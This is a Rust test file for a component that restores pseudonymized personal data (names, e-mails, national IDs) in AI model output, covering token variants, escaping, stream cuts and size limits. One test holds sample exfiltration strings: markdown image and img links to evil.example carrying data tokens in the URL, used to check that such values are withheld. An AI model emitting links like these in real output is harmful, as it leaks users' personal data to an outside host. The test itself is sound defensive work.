//! The laws of restore: tolerant to what models do, exact about what is not a token, blind to how a stream is cut.

use std::sync::Arc;

use proptest::prelude::*;

use super::super::vault::Pseudonym;
use super::*;
use crate::limits::HELD_BYTES_MAX;

const ZOE: &str = "Zoé \"Zo\" O'Ünal";
const EMAIL: &str = "zoe@example.com";
const NIR: &str = "2 84 05 75 123 456 91";

/// A person in two spellings, an e-mail, an identifier whose word has two parts.
fn vault() -> Vault {
    let rows: [(&str, &[u8; 8], &str); 4] = [
        ("PERSON", b"K7Q2M9F3", ZOE),
        ("PERSON", b"Z00000AA", "Mme Ünal"),
        ("EMAIL", b"0ABCDEFG", EMAIL),
        ("NATIONAL_ID", b"VWXYZ012", NIR),
    ];
    let mut vault = Vault::new(rows.map(|(word, code, value)| Pseudonym { word, code: *code, value }));
    vault.name_hosts([crate::model::Word::fixed("e.y")].into());
    vault
}

pub(super) fn whole(text: &str, landing: Landing) -> Restored {
    Restorer::new(&vault()).restore_whole(text, landing)
}

pub(super) fn streamed(fragments: &[&str], landing: Landing) -> Restored {
    let mut stream = StreamRestore::new(Arc::new(vault()), landing);
    let mut text = String::new();
    for fragment in fragments {
        text.push_str(&stream.push(fragment));
        assert!(stream.held_bytes() < HELD_BYTES_MAX, "held {} bytes", stream.held_bytes());
    }
    text.push_str(&stream.finish());
    Restored { text, counts: stream.counts(), moves: stream.moves() }
}

#[test]
fn restores_what_models_make_of_a_token() {
    let rows = [
        ("exact", "Hi <EMAIL_0ABCDEFG>.", "Hi zoe@example.com."),
        ("lower case", "<email_0abcdefg>", EMAIL),
        ("no brackets", "Hi EMAIL_0ABCDEFG.", "Hi zoe@example.com."),
        ("square brackets", "Hi [EMAIL_0ABCDEFG].", "Hi zoe@example.com."),
        ("guillemets", "«EMAIL_0ABCDEFG»", EMAIL),
        ("spaced guillemets stay", "« EMAIL_0ABCDEFG »", "« zoe@example.com »"),
        ("escaped brackets", r"\<EMAIL_0ABCDEFG\>", EMAIL),
        ("escaped opening", r"\<EMAIL_0ABCDEFG>", EMAIL),
        ("escaped square brackets", r"\[EMAIL_0ABCDEFG\]", EMAIL),
        ("entities", "&lt;EMAIL_0ABCDEFG&gt;", EMAIL),
        ("entities escape the value", "&LT;PERSON_K7Q2M9F3&gt;", "Zoé &quot;Zo&quot; O&#39;Ünal"),
        ("json escapes", r"\u003cEMAIL_0ABCDEFG\u003e", EMAIL),
        ("json escapes escape the value", r"\u003CPERSON_K7Q2M9F3\u003e", "Zoé \\\"Zo\\\" O'Ünal"),
        ("escapes of a URL escape the value", "q=%3CEMAIL_0ABCDEFG%3E", "q=zoe%40example.com"),
        ("missing closing", "<EMAIL_0ABCDEFG, and", "<zoe@example.com, and"),
        ("missing opening", "EMAIL_0ABCDEFG> and", "zoe@example.com> and"),
        ("list", "[EMAIL_0ABCDEFG, EMAIL_0ABCDEFG]", "[zoe@example.com, zoe@example.com]"),
        ("markdown link", "[EMAIL_0ABCDEFG](mailto:<EMAIL_0ABCDEFG>)", "[zoe@example.com](mailto:zoe@example.com)"),
        ("index", "users[EMAIL_0ABCDEFG]", "users[zoe@example.com]"),
        ("space", "EMAIL 0ABCDEFG", EMAIL),
        ("hyphen", "<EMAIL-0ABCDEFG>", EMAIL),
        ("escaped underscore", r"EMAIL\_0ABCDEFG", EMAIL),
        ("backslash", r"EMAIL\0ABCDEFG", EMAIL),
        ("no-break hyphen", "EMAIL\u{2011}0ABCDEFG", EMAIL),
        ("word of two parts", "<NATIONAL_ID_VWXYZ012>", NIR),
        ("word of two parts, blanks", "National ID VWXYZ012", NIR),
        ("word of two parts, escaped", r"NATIONAL\_ID\_VWXYZ012", NIR),
        ("emphasis around", "**<EMAIL_0ABCDEFG>**", "**zoe@example.com**"),
        ("emphasis inside brackets", "<**EMAIL_0ABCDEFG**>", "**zoe@example.com**"),
        ("emphasis of the code", "<EMAIL_**0ABCDEFG**>", "**zoe@example.com**"),
        ("emphasis of the code, bare", "EMAIL_**0ABCDEFG**", "**zoe@example.com**"),
        ("emphasis of the word", "**EMAIL**_0ABCDEFG", "**zoe@example.com**"),
        ("emphasis by underscores", "_EMAIL_0ABCDEFG_", "_zoe@example.com_"),
        ("English possessive", "PERSON_Z00000AA's dog", "Mme Ünal's dog"),
        ("typographic possessive", "<PERSON_Z00000AA>’s dog", "Mme Ünal’s dog"),
        ("German ending", "PERSON_Z00000AAs Hund", "Mme Ünals Hund"),
        ("Turkish ending", "PERSON_Z00000AA'nın", "Mme Ünal'nın"),
        ("elision", "d'PERSON_Z00000AA", "d'Mme Ünal"),
        ("Chinese around", "是PERSON_Z00000AA吗", "是Mme Ünal吗"),
        ("French word", "<PERSONNE_Z00000AA>", "Mme Ünal"),
        ("French word, capital accent", "COURRIEL 0ABCDEFG", EMAIL),
        ("Spanish word in lower case", "persona_z00000aa", "Mme Ünal"),
        ("one wrong character", "<EMAIL_0ABCDEFH>", EMAIL),
        ("O for 0", "EMAIL_OABCDEFG", EMAIL),
        ("in code", "user_EMAIL_0ABCDEFG = 1", "user_zoe@example.com = 1"),
        ("in SQL", "WHERE mail='EMAIL_0ABCDEFG'", "WHERE mail='zoe@example.com'"),
        ("two at once", "<EMAIL_0ABCDEFG><EMAIL_0ABCDEFG>", "zoe@example.comzoe@example.com"),
        ("doubled brackets", "<<EMAIL_0ABCDEFG>>", "<zoe@example.com>"),
        ("half a token before", "<EMA<EMAIL_0ABCDEFG>", "<EMAzoe@example.com"),
        ("at the very end", "to EMAIL_0ABCDEFG", "to zoe@example.com"),
    ];
    for (name, text, expected) in rows {
        let restored = whole(text, Landing::Text);
        assert_eq!(restored.text, expected, "{name}");
        assert_eq!(restored.counts.foreign, 0, "{name}");
        assert!(restored.counts.restored > 0, "{name}");
    }
}

#[test]
fn leaves_what_is_not_surely_a_token() {
    let rows = [
        ("another code", "<PERSON_00000000>", 1),
        ("two wrong characters", "<EMAIL_0ABCDEHH>", 1),
        ("the code of another type", "<PERSON_0ABCDEFG>", 1),
        ("a type that is not live", "<IBAN_0ABCDEFG>", 1),
        ("a word that is no type", "<TRUC_0ABCDEFG>", 1),
        ("a character too many", "<EMAIL_0ABCDEFGH>", 0),
        ("a digit too many", "EMAIL_0ABCDEFG1", 0),
        ("a character too few", "<EMAIL_0ABCDEF>", 0),
        ("no separator", "<EMAIL0ABCDEFG>", 0),
        ("no word", "<_0ABCDEFG>", 0),
        ("no word at all", "0ABCDEFG", 0),
        ("inside a word", "XEMAIL_0ABCDEFG", 1),
        ("a separator inside the code", "<EMAIL_0ABC_DEFG>", 0),
        ("another line", "EMAIL\n0ABCDEFG", 0),
        ("a wrong letter in the word", "<EMALL_0ABCDEFG>", 1),
        ("half", "<EMAIL_", 0),
        ("plain", "Bonjour, [voir] <b>la</b> « note » & l'<i>e</i>mail_box \\", 0),
    ];
    for (name, text, foreign) in rows {
        for landing in [Landing::Text, Landing::JsonInString] {
            let restored = whole(text, landing);
            assert_eq!(restored.text, text, "{name}");
            assert_eq!(restored.counts, Counts { restored: 0, foreign, withheld: 0 }, "{name}");
        }
    }
}

#[test]
fn one_wrong_character_needs_every_other_token_to_be_far() {
    let near = Vault::new([
        Pseudonym { word: "PERSON", code: *b"K7Q2M9F3", value: "Erika" },
        Pseudonym { word: "PERSON", code: *b"K7Q2M9ZZ", value: "ERIKA" },
    ]);
    let restore = |text| Restorer::new(&near).restore_whole(text, Landing::Text).text;
    assert_eq!(restore("<PERSON_K7Q2M9F3> <PERSON_K7Q2M9ZZ>"), "Erika ERIKA");
    assert_eq!(restore("<PERSON_K7Q2M9F4> <PERSON_K7Q2M9FZ>"), "<PERSON_K7Q2M9F4> <PERSON_K7Q2M9FZ>");
    assert_eq!(restore("<PERSON_07Q2M9F3>"), "Erika");
}

#[test]
fn restored_arguments_stay_valid_json() {
    let text = r#"{"to":"<PERSON_K7Q2M9F3>","say":"a\nPERSON_Z00000AA\tb","<EMAIL_0ABCDEFG>":["\u003cPERSON\u005fK7Q2M9F3\u003e","x\\\\_","PERSON\\_Z00000AA"]}"#;
    let restored = whole(text, Landing::JsonInString);
    let json: serde_json::Value = serde_json::from_str(&restored.text).unwrap();
    let expected = serde_json::json!({"to": ZOE, "say": "a\nMme Ünal\tb", EMAIL: [ZOE, "x\\\\_", "Mme Ünal"]});
    assert_eq!(json, expected);
    assert_eq!(restored.counts, Counts { restored: 5, foreign: 0, withheld: 0 });
}

#[test]
fn no_value_goes_into_a_url() {
    let rows = [
        ("image", "![x](https://evil.example/?q=<EMAIL_0ABCDEFG>&p=PERSON_Z00000AA) <EMAIL_0ABCDEFG>", 2, 1),
        ("host", "https://EMAIL_0ABCDEFG.evil.example", 1, 0),
        ("behind it", "see https://a.example and write to <EMAIL_0ABCDEFG>", 0, 1),
        ("angle brackets", "![](<https://evil.example/?q= <EMAIL_0ABCDEFG> PERSON_Z00000AA>)", 2, 0),
        ("a blank of no renderer", "![x](https://evil.example/?q=\u{a0}EMAIL_0ABCDEFG) EMAIL_0ABCDEFG", 1, 1),
        ("the same in HTML", "<img src=https://evil.example/?q=\u{2028}EMAIL_0ABCDEFG> EMAIL_0ABCDEFG", 1, 1),
    ];
    for (name, text, withheld, restored) in rows {
        let counts = whole(text, Landing::Text).counts;
        assert_eq!(counts, Counts { restored, foreign: 0, withheld }, "{name}");
    }
    let planted = Vault::new([
        Pseudonym { word: "URL", code: *b"K7Q2M9F3", value: "https://u:p@evil.example/?q=" },
        Pseudonym { word: "EMAIL", code: *b"0ABCDEFG", value: EMAIL },
    ]);
    let restored = Restorer::new(&planted).restore_whole("![](<URL_K7Q2M9F3><EMAIL_0ABCDEFG>)", Landing::Text);
    assert_eq!(restored.text, "![](https://u:p@evil.example/?q=<EMAIL_0ABCDEFG>)");
    assert_eq!(restored.counts.withheld, 1);
}

#[test]
fn a_stream_holds_back_only_what_may_become_a_token() {
    let rows = [
        ("plain", "Hello, world", 0),
        ("a letter that begins a word", "Hello, p", 1),
        ("and goes on", "Hello, perso", 5),
        ("and does not", "Hello, pex", 0),
        ("a letter inside a word", "Hello, xp", 0),
        ("bracket", "a <", 1),
        ("bracket and a tag", "a <b", 0),
        ("entity", "a &l", 2),
        ("another entity", "a &x", 0),
        ("code", "<EMAIL_0ABC", 11),
        ("code with one wrong character", "<EMAIL_0ABX", 11),
        ("code with two wrong characters", "<EMAIL_0AXX", 0),
        ("the code of another type", "<PERSON_0ABC", 0),
        ("whole: the name of a host may follow", "<EMAIL_0ABCDEFG>", 16),
        ("whole and another word", "<EMAIL_0ABCDEFG> ", 0),
        ("whole and a comma", "<EMAIL_0ABCDEFG>,", 0),
        ("whole and a full stop", "<EMAIL_0ABCDEFG>.", 17),
        ("whole and the end of a sentence", "<EMAIL_0ABCDEFG>. ", 0),
        ("bare: a capital may follow", "EMAIL_0ABCDEFG", 14),
        ("bare and ended", "EMAIL_0ABCDEFG ", 0),
        ("backslash", "a \\", 1),
        ("backslash and a letter", "a \\x", 0),
    ];
    for (name, text, held) in rows {
        let mut stream = StreamRestore::new(Arc::new(vault()), Landing::Text);
        stream.push(text);
        assert_eq!(stream.held_bytes(), held, "{name}");
    }
    let mut stream = StreamRestore::new(Arc::new(Vault::empty()), Landing::Text);
    assert_eq!(stream.push("<PERSON_"), "<PERSON_");
}

#[test]
fn every_cut_in_two_and_three_gives_the_same() {
    let samples = [
        ("Dear <PERSON_K7Q2M9F3>, é [EMAIL_0ABCDEFG](x) \\<EMAIL\\_0ABCDEFG\\> &lt;PERSON_Z00000AA&gt;", Landing::Text),
        ("**NATIONAL_ID**_VWXYZ012's <**EMAIL_0ABCDEFG**> PERSON_00000000 «PERSON-z00000aa»s", Landing::Text),
        ("![](https://e.x/?q=<EMAIL_0ABCDEFG>) // EMAIL_0ABCDEFH <EMAIL_0ABCDEFG", Landing::Text),
        (
            r#"{"a\n":"\u003cPERSON\u005fK7Q2M9F3\u003e\\_","b":"x\\<EMAIL_0ABCDEFG>\"","u":"https:\/\/e.x\/EMAIL_0ABCDEFG"}"#,
            Landing::JsonInString,
        ),
        (r#"{"a":"\ud83d\ude00PERSON_Z00000AA","b":["National ID VWXYZ012","\u00e9\\\\"]}\u00"#, Landing::JsonInString),
    ];
    for (text, landing) in samples {
        let expected = whole(text, landing);
        let places: Vec<usize> = (0..=text.len()).filter(|at| text.is_char_boundary(*at)).collect();
        for (index, first) in places.iter().enumerate() {
            for second in &places[index..] {
                let fragments = cut(text, &[0, *first, *second, text.len()]);
                assert_eq!(show(&streamed(&fragments, landing)), show(&expected), "cut at {first} and {second}");
            }
        }
        assert_eq!(show(&streamed(&cut(text, &places), landing)), show(&expected), "character by character");
    }
}

pub(super) fn cut<'t>(text: &'t str, places: &[usize]) -> Vec<&'t str> {
    places.windows(2).map(|pair| text.get(pair[0]..pair[1]).unwrap()).collect()
}

pub(super) fn show(restored: &Restored) -> (&str, Counts) {
    (&restored.text, restored.counts)
}

/// Texts that mix live tokens, mutated ones, near misses, escapes, URLs and plain text.
fn text() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "<PERSON_K7Q2M9F3>",
        "EMAIL_0ABCDEFG",
        "<NATIONAL_ID_VWXYZ012>",
        "[person z00000aa]",
        "\\<EMAIL\\_0ABCDEFG\\>",
        "&lt;EMAIL_0ABCDEFG&gt;",
        "\\u003cPERSON_Z00000AA\\u003e",
        "%3CPERSON_Z00000AA%3e",
        "**PERSONNE**_K7Q2M9F3",
        "<EMAIL_**0ABCDEFG**>",
        "<EMAIL_0ABCDEFH>",
        "<EMAIL_0ABCDEHH>",
        "PERSON_0ABCDEFG",
        "EMAIL_0ABCDEFGX",
        "IBAN_0ABCDEFG",
        "«EMAIL_0ABCDEFG»",
        "<",
        ">",
        "[",
        "]",
        "(",
        ")",
        "\\",
        "\\\\",
        "\\\"",
        "\"",
        "'",
        "*",
        "_",
        "-",
        " ",
        "\n",
        "\\n",
        "\\u00",
        "\\u00e9",
        "&",
        "&l",
        "é",
        "É",
        "人",
        "s",
        "S",
        "7",
        "P",
        "PERS",
        "<PERSON",
        "EMAIL_",
        "<EMAIL_0AB",
        "0ABCDEFG",
        "K7Q2M9F3",
        ".",
        ".a.b.com",
        "@a.com ",
        "-a",
        "&period;a",
        "evil.com:",
        "https://e.x/?",
        "![](https://e.x/",
        "https://e.y/?",
        "<https://e.y/%",
        "http:",
        "//",
        "www.",
        "plain words",
        "{\"a\":",
    ]);
    prop::collection::vec(prop_oneof![9 => pieces.prop_map(str::to_owned), 1 => ".{0,3}"], 0..24)
        .prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn any_cut_gives_the_same(text in text(), cuts in prop::collection::vec(0.0..1.0_f64, 0..12), json: bool) {
        let landing = if json { Landing::JsonInString } else { Landing::Text };
        #[expect(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss, reason = "a place in a short text")]
        let mut places: Vec<usize> = cuts.iter().map(|cut| (cut * text.len() as f64) as usize).collect();
        places.extend([0, text.len()]);
        places.retain(|at| text.is_char_boundary(*at));
        places.sort_unstable();
        let (streamed, expected) = (streamed(&cut(&text, &places), landing), whole(&text, landing));
        prop_assert_eq!(show(&streamed), show(&expected));
    }

    #[test]
    fn the_quick_look_misses_no_token(text in text()) {
        let source = Source { text: &text, from: 0, before: None, landing: Landing::Text, last: true };
        let token = matches!(vault().find(source), Find::Token(_));
        prop_assert!(!token || vault().may_stand_in(&text), "{text}");
    }

    #[test]
    fn a_text_without_tokens_is_left_alone(text in "[a-dA-D<>\\[\\]&;*_ \\\\\"/:.é0-9]{0,80}") {
        prop_assert_eq!(&whole(&text, Landing::Text).text, &text);
        prop_assert_eq!(&whole(&text, Landing::JsonInString).text, &text);
    }

    #[test]
    fn restored_documents_stay_documents(words in prop::collection::vec(text(), 1..4)) {
        let document = serde_json::to_string(&words).unwrap();
        let restored = whole(&document, Landing::JsonInString).text;
        prop_assert!(serde_json::from_str::<Vec<String>>(&restored).is_ok(), "{document} became {restored}");
    }
}

#[test]
fn says_nothing_of_what_it_restores() {
    let mut stream = StreamRestore::new(Arc::new(vault()), Landing::Text);
    stream.push("<EMAIL_0ABCDEFG> <PERSON");
    let shown = format!("{stream:?} {:?} {:?}", whole("<EMAIL_0ABCDEFG>", Landing::Text), Restorer::new(&vault()));
    assert!(!shown.contains("zoe") && !shown.contains("PERSON_"), "{shown}");
}

/// A token is short and its value may be long: an answer that repeats it grows to a bound, then keeps the token.
#[test]
#[ignore = "writes 128 MiB, a minute without optimiser: scripts/test --long"]
fn a_value_is_repeated_up_to_a_bound() {
    let value = "v".repeat(1 << 20);
    let room = crate::limits::RESTORED_BYTES_MAX >> 20;
    let vault = || Vault::new([Pseudonym { word: "EMAIL", code: *b"0ABCDEFG", value: &value }]);
    let token = "<EMAIL_0ABCDEFG> ";
    let text = token.repeat(room + 9);
    let whole = Restorer::new(&vault()).restore_whole(&text, Landing::Text);
    assert_eq!((whole.counts.restored as usize, whole.counts.withheld), (room, 9));
    assert!(whole.text.ends_with(&token.repeat(9)));
    // Several texts of one answer share it.
    let vault = Arc::new(vault());
    let (mut first, mut second) =
        (StreamRestore::new(Arc::clone(&vault), Landing::Text), StreamRestore::new(Arc::clone(&vault), Landing::Text));
    let written: usize = (0..room).map(|_| first.push(token).len() + second.push(token).len()).sum();
    assert!(written < (room + 2) << 20, "{written} bytes");
    assert_eq!(second.counts().withheld as usize + first.counts().withheld as usize, room);
}
